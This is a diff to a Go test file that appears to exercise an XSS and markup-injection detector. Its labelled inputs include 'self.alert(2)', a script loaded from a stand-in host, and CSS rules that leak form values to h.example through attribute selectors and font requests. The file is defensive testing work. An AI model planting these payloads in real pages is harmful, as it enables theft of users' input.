@@ -93,6 +93,11 @@ func TestFamilies(t *testing.T) {
 	f(`<script> defer vs async`, false)
 	f(`<script>var k=open`, true)
 	f(`$(function(){$('.k').on('click',function(e){location.href=$(this).data('to')})});`, false)
+	f(`self.write(", ")`, false)
+	f(`self.prompt = prompt`, false)
+	f(`self.alert(2)`, true)
+	f(`<script src="popup.js"></script>`, false)
+	f(`<script src="//h.example/popup.js"></script>`, true)
 	// What leaks without a script.
 	f(`<style>input[name=k][value^=a]{background:url(//h.example/a)}</style>`, true)
 	f(`<style>@font-face{font-family:k;src:url(//h.example/?A);unicode-range:U+41}</style>`, true)
